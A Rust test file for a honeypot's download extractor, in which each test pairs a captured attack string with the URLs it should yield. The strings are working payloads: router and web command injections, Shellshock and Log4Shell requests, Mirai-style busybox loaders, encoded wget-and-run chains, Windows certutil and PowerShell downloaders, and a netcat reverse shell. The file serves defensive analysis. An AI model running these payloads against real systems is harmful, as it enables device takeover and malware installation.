//! The regression corpus of the command extractor: every attack form it understands, one
//! test each, named for the form, with the downloads it must give (`scheme host port user
//! pass path filename`, `-` for none; `inline NAME LEN` for files the attack writes itself).
//! A form that no longer gives its downloads fails its own test. Add a line here for every
//! new form the extractor learns.

use honeytrap::pipeline::extract::{extract, summary};

fn check(attack: &[u8], want: &[&str]) {
    let got: Vec<String> = extract(attack).iter().map(summary).collect();
    assert_eq!(got, want, "attack: {:?}", String::from_utf8_lossy(attack));
}

/// `name: attack => [downloads];` becomes `#[test] fn name()`.
macro_rules! forms {
    ($($name:ident: $attack:expr => [$($want:expr),* $(,)?];)*) => {
        $(
            #[test]
            fn $name() {
                check($attack, &[$($want),*]);
            }
        )*
    };
}

forms! {
    encoded_shell_bodies_01_echo_y2qgl3rtcdsgd2dldcbodhrwoi8vmtk4lju: b"echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC4zMC9iNjQuc2ggLU8geDsgc2ggeA== | base64 -d | sh" => ["http 198.51.100.30 - - - /b64.sh x"];
    encoded_shell_bodies_02_echo_y2qgl3rtcdsgd2dldcbodhrwoi8vmtk4lju: b"echo \'Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC4zMC9iNjQuc2ggLU8geDsgc2ggeA==\'|base64 --decode|bash" => ["http 198.51.100.30 - - - /b64.sh x"];
    encoded_shell_bodies_03_bash_echo_y2qgl3rtcdsgd2dldcbodhrwoi8vmt: b"bash -c {echo,Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC4zMC9iNjQuc2ggLU8geDsgc2ggeA==}|{base64,-d}|{bash,-i}" => ["http 198.51.100.30 - - - /b64.sh x"];
    encoded_shell_bodies_04_echo_y2qgl3rtcdsgd2dldcbodhrwoi8vmtk4lju: b"sh -c \"$(echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC4zMC9iNjQuc2ggLU8geDsgc2ggeA== | base64 -d)\"" => ["http 198.51.100.30 - - - /b64.sh x"];
    encoded_shell_bodies_05_echo_zwnobybzmlfntdnsdgnec2dkmmrszencb2r: b"echo ZWNobyBZMlFnTDNSdGNEc2dkMmRsZENCb2RIUndPaTh2TVRrNExqVXhMakV3TUM0ek1DOWlOalF1YzJnZ0xVOGdlRHNnYzJnZ2VBPT0gfCBiYXNlNjQgLWQgfCBzaA==|base64 -d|sh" => ["http 198.51.100.30 - - - /b64.sh x"];
    encoded_shell_bodies_06_printf_x77_x67_x65: b"printf \'\\x77\\x67\\x65\\x74\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x31\\x39\\x38\\x2e\\x35\\x31\\x2e\\x31\\x30\\x30\\x2e\\x33\\x31\\x2f\\x70\' | sh" => ["http 198.51.100.31 - - - /p p"];
    encoded_shell_bodies_07_echo_zwnobybav05vynlcyvywnxzzbmxdytaxdfv: b"echo ZWNobyBaV05vYnlCYVYwNXZZbmxDYTAxdFVuTmFSVTVEWWpKU1NWVnVaRkJoVkdneVZGWlNjazVGZUhGV1dHaE5ZV3RXTTFSVlRUQmxhekZ3VDFkMFlWWXhXak5tUjBwb1l6SlZNazVEUVhSYVNIaDZZVUU5UFh4aVlYTmxOalFnTFdSOGMyZz18YmFzZTY0IC1kfHNo|base64 -d|sh" => ["http 198.51.100.32 - - - /deep deep"];
    encoded_shell_bodies_08_echo_zwnobybav05vynlcyvywnxzzbmxdwvzzd05: b"echo ZWNobyBaV05vYnlCYVYwNXZZbmxDWVZZd05YWlpibXhEWVRBeGRGVnVUbUZTVlRWRVdXcEtVMU5XVm5WYVJrSm9Wa2RuZVZaR1dsTmphelZHWlVoR1YxZEhhRTVaVjNSWFRURlNWbFJVUW14aGVrWjNWREZrTUZsV1dYaFhhazV0VWpCd2IxbDZTbFpOYXpWRVVWaFNZVk5JYURaWlZVVTVVRmg0YVZsWVRteE9hbEZuVEZkU09HTXlaejE4WW1GelpUWTBJQzFrZkhOb3xiYXNlNjQgLWR8c2g=|base64 -d|sh" => ["http 198.51.100.32 - - - /deep deep"];
    encoded_shell_bodies_09_echo_zwnobybav05vynlcyvywnxzzbmxdwvzzd05: b"echo ZWNobyBaV05vYnlCYVYwNXZZbmxDWVZZd05YWlpibXhEV1ZaWmQwNVlXbHBpYlhoRVYxWmFXbVF3TlZsWGJIQnBZbGhvUlZZeFdtRlhiVkYzVGxac1dHSklRbkJaYkdodlVsWmtWMVZyU214U01VcElWbTAxVjFaWFNsWlhiRkpYWWtaS1dGVnNXbXRYUjA1R1pFWmFUbFpVVmxsV2JUQXhWakZzVjFOdVNsUmlWR3hZV1ZSS1UyUldjRmRYYlVaVFRWZFNlbFpITVhkaFIxWnpWMnRvV0dKR1duWlZha1phWlVad1JtRkhhRk5XUmxwb1ZtMXdUMVV4WkVkVmJGWlRZa1UxV0ZscldrdFdiRlpZVFZSU2FGSXhXbmxXTW5CUFZqRktSbGR1U2xWV1ZuQjZWbXBHYTFkWFJrZGhSMmhvWld4WmQxWnNaSGRSTWxGNVUxaG9hVkpHY0ZWWmExcDNWREZzV1dOR1pGTldiRnBZV1ZWYVQxZHNXbkpPVlhCYVZsWkthRll5ZUdGV2JGcFZWbXhhVTJKWFkzZFhWbHBoWXpGa1YxVnVVbXhTVkd4dldXdFdZV1JXV2taWGJYUldUVVJzU1ZaR2FITlpWMVp4VWxSU1dGWjZSa2hhVjNoM1ZsWmtWVkZyY0ZKbGExcDVWMjEwYjFReVNYcGxSMnhhVjBVMWMxUnRjRkphTUhoWVZXcG9hazF0WXpsbVIwcG9ZekpWTWs1RFFYUmFTSGg2WVVFOVBYeGlZWE5sTmpRZ0xXUjhjMmc9fGJhc2U2NCAtZHxzaA==|base64 -d|sh" => ["http 198.51.100.32 - - - /deep deep"];
    field_forms_01_get_cgi_ifs_var: b"GET /cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;${IFS}wget${IFS}http://10.0.0.1/mips;${IFS}sh${IFS}/var/tmp/mips HTTP/1.1\r\n\r\n" => ["http 10.0.0.1 - - - /mips mips"];
    field_forms_02_post_tmunblock_cgi_content: b"POST /tmUnblock.cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nttcp_ip=-h+%60cd+%2Ftmp%3B+rm+-rf+mpsl%3B+wget+http%3A%2F%2F198.51.100.1%2Fmpsl%3B+chmod+777+mpsl%3B+.%2Fmpsl+linksys%60&action=&ttcp_num=2" => ["http 198.51.100.1 - - - /mpsl mpsl"];
    field_forms_03_get_language_swedish_ifs: b"GET /language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://198.51.100.2/ar;sh${IFS}/tmp/ar&>r&&tar${IFS}/string.js HTTP/1.0\r\n\r\n" => ["http 198.51.100.2 - - - /ar ar"];
    field_forms_04_post_picsdesc_xml_soapaction: b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewInternalClient>`cd /var; rm -rf nabirt; wget http://198.51.100.3/nabirt; chmod 777 nabirt; ./nabirt realtek.selfrep`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>" => ["http 198.51.100.3 - - - /nabirt nabirt"];
    field_forms_05_post_boaform_admin_formping: b"POST /boaform/admin/formPing HTTP/1.1\r\n\r\ntarget_addr=;wget http://198.51.100.5/x -O /tmp/s;chmod 777 /tmp/s;/tmp/s&waninf=1_INTERNET_R_VID_154" => ["http 198.51.100.5 - - - /x s"];
    field_forms_06_get_cgi_kerbynet_section: b"GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%20%2Ftmp;curl%20-O%20http%3A%2F%2F198.51.100.6%2Fzero;sh%20zero;%22 HTTP/1.1\r\n\r\n" => ["http 198.51.100.6 - - - /zero zero"];
    field_forms_07_enable_system_shell_busybox: b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n/bin/busybox wget http://198.51.100.7:8080/bins/mirai.arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n" => ["http 198.51.100.7 8080 - - /bins/mirai.arm dvrHelper"];
    field_forms_08_get_vendor_phpunit_phpunit: b"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n<?php system(\'wget http://198.51.100.10/p.sh -O- | sh\'); ?>" => ["http 198.51.100.10 - - - /p.sh p.sh"];
    field_forms_09_xp_cmdshell_powershell_new: b"xp_cmdshell \'powershell -c \"(new-object System.Net.WebClient).DownloadFile(\'\'http://198.51.100.12/a.exe\'\',\'\'C:\\ProgramData\\a2.exe\'\')\"\'" => ["http 198.51.100.12 - - - /a.exe a2.exe"];
    field_forms_10_exec_master_xp_cmdshell: b"EXEC master..xp_cmdshell \'certutil -urlcache -split -f http://198.51.100.13/b.exe %TEMP%\\b2.exe\'" => ["http 198.51.100.13 - - - /b.exe b2.exe"];
    field_forms_11_cmd_bitsadmin_transfer_appdata: b"cmd /c bitsadmin /transfer x http://198.51.100.14/c.exe %APPDATA%\\c2.exe&start %APPDATA%\\c2.exe" => ["http 198.51.100.14 - - - /c.exe c2.exe"];
    field_forms_12_nohup_curl_wget_bash: b"nohup $(curl -s http://198.51.100.17/k.sh || wget -q -O - http://198.51.100.17/k.sh) | bash > /dev/null 2>&1 &" => ["http 198.51.100.17 - - - /k.sh k.sh"];
    field_forms_13_get_cgi_luci_stok: b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://198.51.100.18/t+-O-|sh`) HTTP/1.1\r\n\r\n" => ["http 198.51.100.18 - - - /t t"];
    field_forms_14_get_shell_var_run: b"GET /shell?cd%20/tmp%20%7C%7C%20cd%20/var/run%3B%20wget%20http%3A//198.51.100.20/jaws.sh%3B%20chmod%20777%20jaws.sh%3B%20sh%20jaws.sh HTTP/1.1\r\n\r\n" => ["http 198.51.100.20 - - - /jaws.sh jaws.sh"];
    field_forms_15_echo_d2dldcbodhrwoi8vmtk4ljuxljewmc4ymi9: b"echo \"d2dldCBodHRwOi8vMTk4LjUxLjEwMC4yMi9zLnNoIC1PIC90bXAvcy5zaA==\"|base64 -d|bash" => ["http 198.51.100.22 - - - /s.sh s.sh"];
    field_forms_16_busybox_mipsel_mipsel: b"cd /tmp; busybox tftp -r mipsel -g 198.51.100.30 69; chmod 777 mipsel" => ["tftp 198.51.100.30 69 - - mipsel mipsel"];
    field_forms_17_python_import_urllib_urllib: b"python -c \"import urllib;urllib.urlretrieve(\'http://198.51.100.32/py\',\'/tmp/py\')\"" => ["http 198.51.100.32 - - - /py py"];
    field_forms_18_post_cmd_amp_amp: b"POST /x HTTP/1.1\r\n\r\n<cmd>cd /tmp &amp;&amp; wget http://198.51.100.36/h.sh &amp;&amp; sh h.sh</cmd>" => ["http 198.51.100.36 - - - /h.sh h.sh"];
    field_forms_19_cmd_echo_open_txt: b"CMD.EXE /C \"echo open 198.51.100.39 21 >> c.txt && echo user hax0r pw >> c.txt && echo binary >> c.txt && echo get mal.exe >> c.txt && echo quit >> c.txt && ftp -n -s:c.txt && mal.exe\"" => ["ftp 198.51.100.39 21 hax0r pw mal.exe mal.exe"];
    field_forms_20_get_cgi_admin_cgi: b"GET /cgi-bin/admin.cgi?Command=sysCommand&Cmd=wget%20-qO-%20https://198.51.100.40:8443/s.sh%7Csh HTTP/1.1\r\n\r\n" => ["https 198.51.100.40 8443 - - /s.sh s.sh"];
    field_forms_21_get_jndi_ldap_exploit: b"GET /${jndi:ldap://198.51.100.11:1389/Exploit} HTTP/1.1\r\n\r\n" => [];
    field_forms_22_wget_bins_wget: b"cd /tmp; wget bins.sh; wget 198.51.100.44" => ["http 198.51.100.44 - - - / index.html"];
    forms_seen_in_the_wild_01_get_cgi_luci_stok: b"GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(cd+%2Ftmp%3B+rm+-rf+shk%3B+wget+http%3A%2F%2F1.2.3.4%2Fshk%3B+chmod+777+shk%3B+.%2Fshk+tplink%3B+rm+-rf+shk) HTTP/1.1\r\n\r\n" => ["http 1.2.3.4 - - - /shk shk"];
    forms_seen_in_the_wild_02_post_ctrlt_deviceupgrade_newstatusurl: b"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/mips -r /mips; /bin/busybox chmod 777 * /tmp/mips; /tmp/mips huawei.rep)</NewStatusURL>" => ["tftp 1.2.3.4 - - - /mips mips"];
    forms_seen_in_the_wild_03_get_index_php_index: b"GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=shell_exec&vars[1][]=wget%20http://1.2.3.4/t.sh%20-O%20/tmp/t.sh;sh%20/tmp/t.sh HTTP/1.1\r\n\r\n" => ["http 1.2.3.4 - - - /t.sh t.sh"];
    forms_seen_in_the_wild_04_cmd_certutil_urlcache_split: b"cmd.exe /c certutil.exe -urlcache -split -f http://1.2.3.4:8888/win.exe C:\\Windows\\Temp\\svchost.exe & C:\\Windows\\Temp\\svchost.exe" => ["http 1.2.3.4 8888 - - /win.exe svchost.exe"];
    forms_seen_in_the_wild_05_bitsadmin_transfer_myjob_download: b"bitsadmin /transfer myjob /download /priority high http://1.2.3.4/x.exe %TEMP%\\x.exe" => ["http 1.2.3.4 - - - /x.exe x.exe"];
    forms_seen_in_the_wild_06_set_curl_fssl_init: b"*3\r\n$3\r\nset\r\n$1\r\n1\r\n$64\r\n\n\n*/1 * * * * curl -fsSL http://1.2.3.4/init.sh | sh\n\n\r\n" => ["http 1.2.3.4 - - - /init.sh init.sh"];
    forms_seen_in_the_wild_07_get_shell_wget_jaws: b"GET /shell?cd+/tmp;rm+-rf+*;wget+1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\n\r\n" => ["http 1.2.3.4 - - - /jaws jaws"];
    forms_seen_in_the_wild_08_busybox_wget_bins_mirai: b"/bin/busybox wget http://1.2.3.4:80/bins/mirai.x86 -O - > dvrLocker; /bin/busybox chmod 777 dvrLocker; ./dvrLocker selfrep" => ["http 1.2.3.4 80 - - /bins/mirai.x86 dvrLocker"];
    forms_seen_in_the_wild_09_python_import_urllib_urllib: b"python -c \"import urllib;urllib.urlretrieve(\'http://1.2.3.4/p.py\',\'/tmp/p.py\')\"" => ["http 1.2.3.4 - - - /p.py p.py"];
    forms_seen_in_the_wild_10_php_file_put_contents: b"php -r \"file_put_contents(\'/tmp/x\', file_get_contents(\'http://1.2.3.4/x\'));\"" => ["http 1.2.3.4 - - - /x x"];
    forms_seen_in_the_wild_11_nc: b"nc 1.2.3.4 4444 -e /bin/sh" => [];
    forms_seen_in_the_wild_12_echo_open_echo_anonymous: b"echo open 1.2.3.4>x&echo anonymous>>x&echo a@b>>x&echo binary>>x&echo get svchost.exe>>x&echo quit>>x&ftp -s:x&svchost.exe" => ["ftp 1.2.3.4 - anonymous a@b svchost.exe svchost.exe"];
    forms_seen_in_the_wild_13_regsvr32_file_sct_scrobj: b"regsvr32 /s /n /u /i:http://1.2.3.4/file.sct scrobj.dll" => ["http 1.2.3.4 - - - /file.sct file.sct"];
    forms_seen_in_the_wild_14_get_payload_payload: b"tftp.exe -i 1.2.3.4 get payload.exe C:\\payload.exe" => ["tftp 1.2.3.4 - - - payload.exe payload.exe"];
    forms_seen_in_the_wild_15_wget_qo_curl: b"(wget -qO- http://1.2.3.4/i.sh || curl -s http://1.2.3.4/i.sh) | sh" => ["http 1.2.3.4 - - - /i.sh i.sh"];
    ftp_scripts_01_echo_open_echo_user: b"echo open 1.2.3.4 21 > o&echo user foo bar >> o &echo get evil.exe >> o &ftp -n -v -s:o &del o &evil.exe" => ["ftp 1.2.3.4 21 foo bar evil.exe evil.exe"];
    ftp_scripts_02_echo_open_echo_user: b"echo open 10.0.0.9 2121>>t&echo USER>>t&echo PASS>>t&echo bin>>t&echo get FILE>>t&echo bye>>t&ftp -s:t" => ["ftp 10.0.0.9 2121 USER PASS FILE FILE"];
    ftp_scripts_03_cmd_echo_open_ik: b"cmd /c echo open 1.2.3.4 21>>ik &echo user 1 1>>ik &echo get a.exe>>ik &echo bye>>ik &ftp -n -v -s:ik &del ik &a.exe" => ["ftp 1.2.3.4 21 1 1 a.exe a.exe"];
    ftp_scripts_04_cmd_echo_open_example: b"CMD /C ECHO OPEN ftp.example.net> x & Echo User anon >> x & echo Pass me@x.com >> x & echo binary >> x & ECHO GET /pub/srv.exe C:\\srv.exe >> x & FTP.EXE -n -s:x" => ["ftp ftp.example.net - anon me@x.com /pub/srv.exe srv.exe"];
    ftp_scripts_05_echo_open_echo_binary: b"(echo open 192.0.2.1; echo binary; echo get a.exe; echo get b.exe; echo quit) | ftp -n" => ["ftp 192.0.2.1 - - - a.exe a.exe", "ftp 192.0.2.1 - - - b.exe b.exe"];
    ftp_scripts_06_echo_open_echo_echo: b"echo open 192.0.2.1 >s;echo u >>s;echo p >>s;echo cd pub>>s;echo get x.exe>>s;ftp -s:s" => ["ftp 192.0.2.1 - u p pub/x.exe x.exe"];
    ftp_scripts_07_echo_open_db8_echo: b"echo open 2001:db8::5 2121>f&echo user a b>>f&echo get z>>f" => ["ftp 2001:db8::5 2121 a b z z"];
    ftp_scripts_08_echo_get_evil: b"echo get evil.exe >> o & ftp -s:o" => [];
    ftpget_forms_01_ftpget_anonymous_anonymous_ftp1: b"ftpget -v -u anonymous -p anonymous -P 21 1.2.3.4 ftp1.sh ftp1.sh" => ["ftp 1.2.3.4 21 anonymous anonymous ftp1.sh ftp1.sh"];
    ftpget_forms_02_busybox_ftpget_local_pub: b"busybox ftpget 198.51.100.9 local.bin /pub/remote.bin" => ["ftp 198.51.100.9 - - - /pub/remote.bin local.bin"];
    ftpget_forms_03_ftpget_example_org: b"ftpget -P 2121 h.example.org x" => ["ftp h.example.org 2121 - - x x"];
    ftpget_forms_04_ftpget: b"ftpget 1.2.3.4" => [];
    hostile_inputs_bounded_01_wget: b"wget http://" => [];
    hostile_inputs_bounded_02_wget_id: b"wget http://:80/x http://[::1/x http://a:99999/ http://$(id)/x" => [];
    hostile_inputs_bounded_03_example: b"http://x.example:/a" => ["http x.example - - - /a a"];
    http_clients_01_wget: b"wget http://1.2.3.4/a.sh" => ["http 1.2.3.4 - - - /a.sh a.sh"];
    http_clients_02_wget_example_com_frag: b"WGET HTTP://Example.COM:8080/x/Y.bin?z=1#frag" => ["http Example.COM 8080 - - /x/Y.bin?z=1 Y.bin"];
    http_clients_03_busybox_wget_db8: b"busybox wget http://[2001:db8::1]:8080/x" => ["http 2001:db8::1 8080 - - /x x"];
    http_clients_04_wget_qo_example: b"wget -qO- http://x.example|sh" => ["http x.example - - - / index.html"];
    http_clients_05_wget_bins_mirai_arm: b"wget http://1.2.3.4/bins/mirai.arm -O /tmp/.m; chmod +x /tmp/.m" => ["http 1.2.3.4 - - - /bins/mirai.arm .m"];
    http_clients_06_busybox_wget_bins_mirai: b"/bin/busybox wget http://1.2.3.4:80/bins/mirai.x86 -O - > dvrHelper" => ["http 1.2.3.4 80 - - /bins/mirai.x86 dvrHelper"];
    http_clients_07_wget_output_document_var: b"wget --output-document=/var/t.bin https://s.example.net/t" => ["https s.example.net - - - /t t.bin"];
    http_clients_08_curl_example_bash: b"curl -s -L http://x.example/a.sh | bash" => ["http x.example - - - /a.sh a.sh"];
    http_clients_09_curl_fsslo: b"curl -fsSLo /tmp/k http://198.51.100.1/k.bin && chmod +x /tmp/k" => ["http 198.51.100.1 - - - /k.bin k"];
    http_clients_10_curl_kk_kk: b"curl http://198.51.100.1/k.bin > /tmp/kk; sh /tmp/kk" => ["http 198.51.100.1 - - - /k.bin kk"];
    http_clients_11_curl_dev_null: b"curl -O http://198.51.100.1/k.bin > /dev/null" => ["http 198.51.100.1 - - - /k.bin k.bin"];
    http_clients_12_curl_bob_s3cret_pub: b"curl -u bob:s3cret ftp://198.51.100.1/pub/a.bin -o a" => ["ftp 198.51.100.1 - bob s3cret pub/a.bin a"];
    http_clients_13_wget_example_curl_example: b"(wget -O - http://x.example || curl http://x.example) | sh" => ["http x.example - - - / index.html"];
    http_clients_14_fetch_example: b"fetch -o /tmp/f http://x.example/f.sh" => ["http x.example - - - /f.sh f"];
    http_clients_15_lwp_download_example_pl: b"lwp-download http://x.example/l.pl /tmp/ll" => ["http x.example - - - /l.pl ll"];
    http_clients_16_wget_user_ss_dir: b"wget ftp://user:p%40ss@192.0.2.4:2121/dir/a%2Bb.bin" => ["ftp 192.0.2.4 2121 user p@ss dir/a+b.bin a+b.bin"];
    http_clients_17_wget_bins: b"wget 198.51.100.23/bins.sh" => ["http 198.51.100.23 - - - /bins.sh bins.sh"];
    http_clients_18_curl_mal_example_com: b"curl -o x mal.example.com:81/p" => ["http mal.example.com 81 - - /p x"];
    http_clients_19_wget_boot_img: b"wget tftp://192.0.2.3/boot.img" => ["tftp 192.0.2.3 - - - boot.img boot.img"];
    http_clients_20_busybox_wget_kh_okiru: b"$(/bin/busybox wget -g 45.0.0.1 -l /tmp/kh -r /okiru.mips ;/bin/busybox chmod 777 * /tmp/kh; /tmp/kh huawei.rep)" => ["tftp 45.0.0.1 - - - /okiru.mips kh"];
    http_injections_01_get_shell_wget_jaws: b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 5.6.7.8\r\nUser-Agent: Hello, world\r\n\r\n" => ["http 1.2.3.4 - - - /jaws jaws"];
    http_injections_02_get_setup_cgi_next: b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.2:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n" => ["http 198.51.100.2 8088 - - /Mozi.m netgear"];
    http_injections_03_get_index_php_index: b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://198.51.100.3/t.sh%20-O%20/tmp/t.sh;sh%20/tmp/t.sh HTTP/1.1\r\n\r\n" => ["http 198.51.100.3 - - - /t.sh t.sh"];
    http_injections_04_post_gponform_diag_form: b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nContent-Length: 118\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://198.51.100.4:8080/gpon+-O+->/tmp/gpon;sh+/tmp/gpon&ipv=0" => ["http 198.51.100.4 8080 - - /gpon gpon"];
    http_injections_05_post_ws_v1_cluster: b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"application-id\":\"application_1\",\"application-name\":\"get-shell\",\"am-container-spec\":{\"commands\":{\"command\":\"wget -q -O - http:\\/\\/198.51.100.5\\/y.sh \\u0026\\u0026 sh y.sh\"}},\"application-type\":\"YARN\"}" => ["http 198.51.100.5 - - - /y.sh y.sh"];
    http_injections_06_post_hnap1_content_type: b"POST /HNAP1/ HTTP/1.0\r\nContent-Type: text/xml; charset=\"utf-8\"\r\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && rm -rf * && wget http://198.51.100.6/h.mips && chmod +x h.mips && ./h.mips`\r\n\r\n" => ["http 198.51.100.6 - - - /h.mips h.mips"];
    http_injections_07_get_cgi_user_agent: b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c \"cd /tmp;wget http://198.51.100.7/sb;curl -O http://198.51.100.7/sb;perl sb\"\r\n\r\n" => ["http 198.51.100.7 - - - /sb sb"];
    http_injections_08_get_wget_ifs_ifs: b"GET /x?c=$(wget${IFS}http://198.51.100.8/i${IFS}-O${IFS}/tmp/i) HTTP/1.1\r\n\r\n" => ["http 198.51.100.8 - - - /i i"];
    http_injections_09_ifs_wget_ifs_ifs: b"cd$IFS/tmp;wget$IFS$9http://198.51.100.8/j;sh$IFS/tmp/j" => ["http 198.51.100.8 - - - /j j"];
    http_injections_10_post_cgi_content_type: b"POST /cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nip=1.1.1.1 %7C wget http%3A%2F%2F198.51.100.9%2Fq -O- %7C sh" => ["http 198.51.100.9 - - - /q q"];
    http_injections_11_xml_version_envelope_xmlns: b"<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.10 -l /tmp/binary -r /okiru.mips; /tmp/binary huawei.rep)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>" => ["tftp 198.51.100.10 - - - /okiru.mips binary"];
    http_injections_12_get_host_user_agent: b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)\r\nReferer: http://www.example.com/\r\n\r\n" => [];
    http_injections_13_set_curl_fssl: b"*3\r\n$3\r\nset\r\n$1\r\n1\r\n$56\r\n\n\n*/1 * * * * curl -fsSL http://198.51.100.11/c.sh | sh\n\n\r\n" => ["http 198.51.100.11 - - - /c.sh c.sh"];
    http_injections_14_wget: b"wget http://198.51.100.12/a%41b+c" => ["http 198.51.100.12 - - - /a%41b+c a%41b+c"];
    http_injections_15_wget: b"wget http://198.51.100.12/a%20b" => ["http 198.51.100.12 - - - /a a"];
    http_injections_16_get_proxy_example_txt: b"GET http://proxy.example/x.txt HTTP/1.1\r\n\r\n" => ["http proxy.example - - - /x.txt x.txt"];
    http_injections_17_see_bare_example: b"see (http://bare.example/p.exe), and ftp://192.0.2.9/q." => ["http bare.example - - - /p.exe p.exe", "ftp 192.0.2.9 - - - q q"];
    inline_files_01_echo_open: b"echo open 1.2.3.4 > s" => [];
    inline_files_02_echo_ne_x01: b"echo -ne \'\\x01\' > t" => [];
    inline_files_03_echo_ne_x7f_x45: b"echo -ne \'\\x7f\\x45\\x4c\\x46\' > /dev/null" => [];
    mirai_loader_01_var_run_mnt_root: b"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.10 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 192.0.2.10; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 192.0.2.10 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *" => ["http 192.0.2.10 - - - /bins.sh bins.sh", "tftp 192.0.2.10 - - - tftp1.sh tftp1.sh", "tftp 192.0.2.10 - - - tftp2.sh tftp2.sh", "ftp 192.0.2.10 21 anonymous anonymous ftp1.sh ftp1.sh"];
    order_dedup_and_cap_01_get_wget_get_curl: b"tftp -i 192.0.2.1 GET a; wget http://192.0.2.2/b; tftp -i 192.0.2.1 GET a; curl http://192.0.2.2:80/b" => ["tftp 192.0.2.1 - - - a a", "http 192.0.2.2 - - - /b b"];
    tftp_forms_01_get_file: b"tftp -i 1.2.3.4 GET file.exe" => ["tftp 1.2.3.4 - - - file.exe file.exe"];
    tftp_forms_02_cmd_get_msblast_windows: b"cmd.exe /c Tftp -I 1.2.3.4 get Msblast.exe c:\\windows\\a.exe & start a.exe" => ["tftp 1.2.3.4 - - - Msblast.exe a.exe"];
    tftp_forms_03_get_dl: b"tftp.exe -i 198.51.100.3 GET dl/x.exe" => ["tftp 198.51.100.3 - - - dl/x.exe x.exe"];
    tftp_forms_04_tftp2_tftp2: b"cd /tmp; tftp -g -r tftp2.sh 1.2.3.4; sh tftp2.sh" => ["tftp 1.2.3.4 - - - tftp2.sh tftp2.sh"];
    tftp_forms_05_mips: b"tftp -r mips -g 1.2.3.4 69" => ["tftp 1.2.3.4 69 - - mips mips"];
    tftp_forms_06_busybox_dvrhelper_bot_arm7: b"busybox tftp -g -l dvrHelper -r bot.arm7 203.0.113.7" => ["tftp 203.0.113.7 - - - bot.arm7 dvrHelper"];
    tftp_forms_07_busybox_gr_bot_x86: b"/bin/busybox tftp -gr bot.x86 203.0.113.7 2>/dev/null" => ["tftp 203.0.113.7 - - - bot.x86 bot.x86"];
    tftp_forms_08_get_tftp1: b"tftp 1.2.3.4 -c get tftp1.sh" => ["tftp 1.2.3.4 - - - tftp1.sh tftp1.sh"];
    tftp_forms_09_binary_get: b"tftp -m binary 1.2.3.4 6969 -c get a.sh b.sh" => ["tftp 1.2.3.4 6969 - - a.sh b.sh"];
    tftp_forms_10_fd00: b"tftp -g -r x fd00::7" => ["tftp fd00::7 - - - x x"];
    tftp_forms_11_form: b"TFTP -i" => [];
    tftp_forms_12_form: b"tftp -i 1.2.3.4" => [];
    windows_downloaders_01_powershell_nop_hidden_iex: b"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.20/a.ps1\')\"" => ["http 198.51.100.20 - - - /a.ps1 a.ps1"];
